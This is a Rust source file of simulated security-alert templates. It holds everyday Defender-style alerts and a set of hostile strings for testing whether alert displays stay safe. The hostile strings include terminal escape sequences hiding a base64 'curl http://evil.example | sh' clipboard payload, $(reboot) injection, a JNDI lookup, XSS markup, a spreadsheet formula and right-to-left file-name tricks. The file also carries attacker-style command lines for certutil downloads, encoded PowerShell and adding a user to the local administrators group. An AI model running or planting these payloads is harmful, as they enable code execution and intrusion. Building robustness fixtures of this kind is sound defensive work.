//! Everyday alerts that belong to no attack, and strings no terminal should trust.
//!
//! The hostile ones are here because attackers choose file names, command lines and
//! titles: whoever draws them must cope.

use crate::sim::population::template::Item;
use crate::sim::population::template::PLAIN;
use crate::sim::population::template::Process;
use crate::sim::population::template::Template;

const SYSTEM: &str = "C:\\Windows\\System32";
const EXPLORER: Process = Process {
    file: "explorer.exe",
    folder: "C:\\Windows",
    command: "C:\\Windows\\Explorer.EXE",
};
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0";

/// What fills a queue on a quiet day, the most frequent first.
pub(crate) const NOISE: [Template; 20] = [
    Template {
        title: "An active 'Presenoker' unwanted software was blocked",
        severity: "Informational",
        category: "UnwantedSoftware",
        source: "WindowsDefenderAv",
        threat: Some(("Presenoker", "PUA:Win32/Presenoker")),
        description: "Potentially unwanted software shows advertisements or installs other programs. This one was blocked.",
        action: Some("No action is needed unless it comes back."),
        items: &[Item::File {
            name: "FreePDFConverter_setup.exe",
            folder: "C:\\Users\\{user}\\Downloads",
            status: "Blocked",
        }],
        ..PLAIN
    },
    Template {
        title: "'EICAR_Test_File' malware was prevented",
        severity: "Informational",
        category: "Malware",
        source: "WindowsDefenderAv",
        threat: Some(("EICAR_Test_File", "Virus:DOS/EICAR_Test_File")),
        description: "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions on affected machines. This file is the harmless one everybody uses for tests.",
        chain: &[EXPLORER],
        items: &[Item::File {
            name: "eicar.com.txt",
            folder: "C:\\Users\\{user}\\Desktop",
            status: "Prevented",
        }],
        ..PLAIN
    },
    Template {
        title: "Suspicious connection blocked by network protection",
        severity: "Low",
        category: "CommandAndControl",
        source: "WindowsDefenderSmartScreen",
        techniques: &["T1071"],
        description: "A connection to a site of bad reputation was blocked.",
        chain: &[
            EXPLORER,
            Process {
                file: "msedge.exe",
                folder: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
                command: "\"msedge.exe\" --single-argument https://{domain}/",
            },
        ],
        items: &[Item::Url("https://{domain}/"), Item::Address],
        ..PLAIN
    },
    Template {
        title: "Low-reputation arbitrary code executed by signed executable",
        severity: "Low",
        category: "Execution",
        techniques: &["T1218.010", "T1220"],
        description: "Signed programs of the operating system can be made to run code of low reputation, which hides it inside a trusted process.",
        chain: &[
            EXPLORER,
            Process {
                file: "regsvr32.exe",
                folder: SYSTEM,
                command: "regsvr32.exe /s \"C:\\ProgramData\\PlantSight\\scanner.ocx\"",
            },
        ],
        items: &[Item::File {
            name: "scanner.ocx",
            folder: "C:\\ProgramData\\PlantSight",
            status: "Detected",
        }],
        ..PLAIN
    },
    Template {
        title: "Suspicious Task Scheduler activity",
        severity: "Low",
        category: "Persistence",
        techniques: &["T1053.005"],
        description: "A task was created by a program that rarely creates tasks. The same was seen on other devices after a software rollout.",
        chain: &[
            Process {
                file: "ccmexec.exe",
                folder: "C:\\Windows\\CCM",
                command: "C:\\Windows\\CCM\\CcmExec.exe",
            },
            Process {
                file: "schtasks.exe",
                folder: SYSTEM,
                command: "schtasks /create /xml C:\\Windows\\ccmcache\\4f\\inventory.xml /tn Inventory",
            },
        ],
        ..PLAIN
    },
    Template {
        title: "Malware was detected in an email attachment",
        severity: "Informational",
        category: "Malware",
        source: "OfficeATP",
        threat: Some(("Donoff", "TrojanDownloader:O97M/Donoff")),
        description: "An attachment was found to contain malware and was removed before delivery.",
        items: &[Item::Mailbox],
        cloud: true,
        ..PLAIN
    },
    Template {
        title: "Unfamiliar sign-in properties",
        severity: "Low",
        category: "InitialAccess",
        source: "MTP",
        techniques: &["T1078.004"],
        description: "A sign-in with properties not seen recently for {user}.",
        items: &[Item::Address],
        cloud: true,
        ..PLAIN
    },
    Template {
        title: "Possible attempt to access Primary Refresh Token (PRT)",
        severity: "Medium",
        category: "CredentialAccess",
        techniques: &["T1528", "T1550.001"],
        description: "A process that is not a browser asked for a sign-in token of the device.",
        chain: &[
            EXPLORER,
            Process {
                file: "BrowserCore.exe",
                folder: "C:\\Program Files\\Windows Security\\BrowserCore",
                command: "\"BrowserCore.exe\" chrome-extension://{hex}/ --parent-window=0",
            },
        ],
        ..PLAIN
    },
    Template {
        title: "Multiple failed logons over the network",
        severity: "Informational",
        category: "CredentialAccess",
        techniques: &["T1110"],
        description: "An account failed to sign in many times. A service with an old password does the same.",
        items: &[Item::Address],
        ..PLAIN
    },
    Template {
        title: "Suspicious use of certutil",
        severity: "Medium",
        category: "DefenseEvasion",
        techniques: &["T1140", "T1105"],
        description: "A certificate tool was used to download or decode a file.",
        action: Some(
            "Ask the administrator whose account it is; this is a frequent shortcut, and a frequent trick.",
        ),
        chain: &[
            EXPLORER,
            Process {
                file: "cmd.exe",
                folder: SYSTEM,
                command: "cmd",
            },
            Process {
                file: "certutil.exe",
                folder: SYSTEM,
                command: "certutil  -urlcache -split -f https://{domain}/agent.cab C:\\Temp\\agent.cab",
            },
        ],
        items: &[
            Item::Url("https://{domain}/agent.cab"),
            Item::File {
                name: "agent.cab",
                folder: "C:\\Temp",
                status: "Detected",
            },
        ],
        ..PLAIN
    },
    Template {
        title: "A WMI event filter was bound to a suspicious event consumer",
        severity: "Medium",
        category: "Persistence",
        techniques: &["T1546.003"],
        description: "A permanent event subscription starts a script when the device has been up for five minutes.",
        chain: &[
            Process {
                file: "WmiPrvSE.exe",
                folder: "C:\\Windows\\System32\\wbem",
                command: "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            },
            Process {
                file: "powershell.exe",
                folder: POWERSHELL,
                command: "powershell.exe -NoP -enc {encoded}",
            },
        ],
        ..PLAIN
    },
    Template {
        title: "Sensor health: device stopped reporting for more than 7 days",
        severity: "UnSpecified",
        category: "General",
        source: "ThirdPartySensors",
        description: "",
        ..PLAIN
    },
    Template {
        title: "New group added suspiciously",
        severity: "Medium",
        category: "Persistence",
        techniques: &["T1098"],
        description: "{user} was added to a local group of administrators by a script.",
        chain: &[
            EXPLORER,
            Process {
                file: "net1.exe",
                folder: SYSTEM,
                command: "net1  localgroup Administrators {user} /add",
            },
        ],
        ..PLAIN
    },
    Template {
        title: "Automated investigation started manually",
        severity: "Informational",
        category: "SuspiciousActivity",
        source: "AutomatedInvestigation",
        description: "An analyst started an automated investigation on {host}.",
        ..PLAIN
    },
    Template {
        title: "Model poisoning attempt against a local language model",
        severity: "Medium",
        // Nobody promised that the list of categories is closed.
        category: "AiModelTampering",
        techniques: &["T1565.001"],
        description: "Files of a local language model were replaced by a process that had downloaded them from a personal account.",
        ..PLAIN
    },
    Template {
        title: "Detection without a category",
        severity: "Low",
        // Seen on the wire: the four letters, not the value.
        category: "null",
        source: "ThirdPartySensors",
        description: "",
        ..PLAIN
    },
    Template {
        title: "Threat Experts: hands-on-keyboard activity resembling a known group",
        severity: "High",
        category: "SuspiciousActivity",
        source: "ThreatExperts",
        techniques: &["T1059.003", "T1083", "T1018"],
        description: "Our hunters noticed commands typed by a person, at a pace and with typing errors that no script has.\n\nWhat we saw:\n- directory listings of shares, one after the other;\n- a search for files named \"password\";\n- a copy of two of them.\n\nWe recommend to treat this as an intrusion until shown otherwise.",
        action: Some("Call us."),
        chain: &[
            EXPLORER,
            Process {
                file: "cmd.exe",
                folder: SYSTEM,
                command: "cmd.exe /c dir /s /b \\\\{target}\\c$\\Users\\*passwor*",
            },
        ],
        ..PLAIN
    },
    Template {
        title: "Printer driver installed from an untrusted path",
        severity: "Low",
        category: "PrivilegeEscalation",
        techniques: &["T1547.012"],
        description: "A printer driver was loaded from a folder that users can write to.",
        chain: &[Process {
            file: "spoolsv.exe",
            folder: SYSTEM,
            command: "C:\\Windows\\System32\\spoolsv.exe",
        }],
        items: &[Item::File {
            name: "mimispool.dll",
            folder: "C:\\Windows\\System32\\spool\\drivers\\x64\\3",
            status: "Blocked",
        }],
        ..PLAIN
    },
    Template {
        title: "Attempt to exploit CVE-2026-21984 blocked",
        severity: "Medium",
        category: "Exploit",
        techniques: &["T1203"],
        threat: Some(("CVE-2026-21984", "Exploit:Win32/CVE-2026-21984.A!sim")),
        description: "A document tried to use a vulnerability that has been patched; the patch is installed here.",
        items: &[Item::File {
            name: "履歴書_田中.pdf",
            folder: "C:\\Users\\{user}\\Downloads",
            status: "Blocked",
        }],
        ..PLAIN
    },
    Template {
        title: "Remote monitoring tool outside the approved list",
        severity: "Low",
        category: "LateralMovement",
        source: "CustomDetection",
        techniques: &["T1219"],
        description: "A tool for remote support that is not on your organization's list was started.",
        chain: &[
            EXPLORER,
            Process {
                file: "AnyDesk.exe",
                folder: "C:\\Users\\{user}\\Downloads",
                command: "\"C:\\Users\\{user}\\Downloads\\AnyDesk.exe\" --local-service",
            },
        ],
        ..PLAIN
    },
];

/// Legal JSON that a careless screen would obey.
pub(crate) const HOSTILE: [Template; 8] = [
    Template {
        title: "\u{1b}[2J\u{1b}[31mAll clear, nothing to see\u{1b}[0m",
        severity: "High",
        category: "DefenseEvasion",
        techniques: &["T1036"],
        description: "The title of this alert carries escape sequences.\u{1b}]0;owned\u{7}\n\nSo does this text.\u{9b}31m",
        chain: &[
            EXPLORER,
            Process {
                file: "\u{1b}[8mhidden.exe",
                folder: "C:\\Temp",
                command: "\u{1b}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\u{7} hidden.exe",
            },
        ],
        ..PLAIN
    },
    Template {
        title: "Unusual file name: photo_\u{202e}gpj.exe\u{202c}",
        severity: "Medium",
        category: "DefenseEvasion",
        techniques: &["T1036.002"],
        description: "The name of the file is written so that it reads backwards.",
        items: &[Item::File {
            name: "photo_\u{202e}gpj.exe",
            folder: "C:\\Users\\{user}\\Pictures",
            status: "Detected",
        }],
        ..PLAIN
    },
    Template {
        title: "Suspicious\u{200b} zero\u{200d}width\u{feff} names in services",
        severity: "Low",
        category: "Persistence",
        techniques: &["T1543.003"],
        description: "Two services have names that look the same.",
        items: &[Item::Registry {
            hive: "HKEY_LOCAL_MACHINE",
            key: "SYSTEM\\CurrentControlSet\\Services\\Win\u{200b}Defend",
            name: "ImagePath",
            value: "C:\\Temp\\a\tb.exe",
            kind: "ExpandString",
        }],
        ..PLAIN
    },
    Template {
        title: "First line of a title\nsecond line of it\r\nand a third",
        severity: "Medium",
        category: "Execution",
        description: "Line breaks belong to titles as much as to anything else.",
        chain: &[
            EXPLORER,
            Process {
                file: "python.exe",
                folder: "C:\\Tools",
                command: "python.exe -c \"\nimport os\nos.system('whoami')\n\"",
            },
        ],
        ..PLAIN
    },
    Template {
        title: "<script>alert('1')</script> & \"quotes\" 'and' `ticks` $(reboot) %s %n {0}",
        severity: "Informational",
        category: "General",
        description: "<b>Bold</b>? ${jndi:ldap://{domain}/x} =HYPERLINK(\"https://{domain}\")",
        items: &[Item::Url(
            "https://user:secret@{domain}/%00%0a?q=<svg/onload=1>#'\"",
        )],
        ..PLAIN
    },
    Template {
        title: "端末「営業部-07」で不審なプロセスが検出されました：資格情報のダンプの可能性",
        severity: "High",
        category: "CredentialAccess",
        techniques: &["T1003"],
        description: "ウイルス対策が資格情報へのアクセスを検出しました。\n\n直ちに端末を隔離してください。🔐👩🏽‍💻 e\u{301}\u{301}\u{301}\u{301}",
        items: &[Item::File {
            name: "ﾊﾟｽﾜｰﾄﾞ.txt",
            folder: "C:\\ユーザー\\共有",
            status: "Detected",
        }],
        ..PLAIN
    },
    Template {
        title: "A very long title that somebody generated with a template in which every variable was expanded, including the full path of the process, the full path of its parent, the list of all command-line switches that were ever documented, the name of the device, of its owner, of the owner's manager, and an explanation of why each of them matters to the reader who has long stopped reading at this point",
        severity: "Low",
        category: "Discovery",
        description: "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        ..PLAIN
    },
    Template {
        title: "",
        severity: "Low",
        category: "",
        description: "An alert whose title and category are empty.",
        ..PLAIN
    },
];
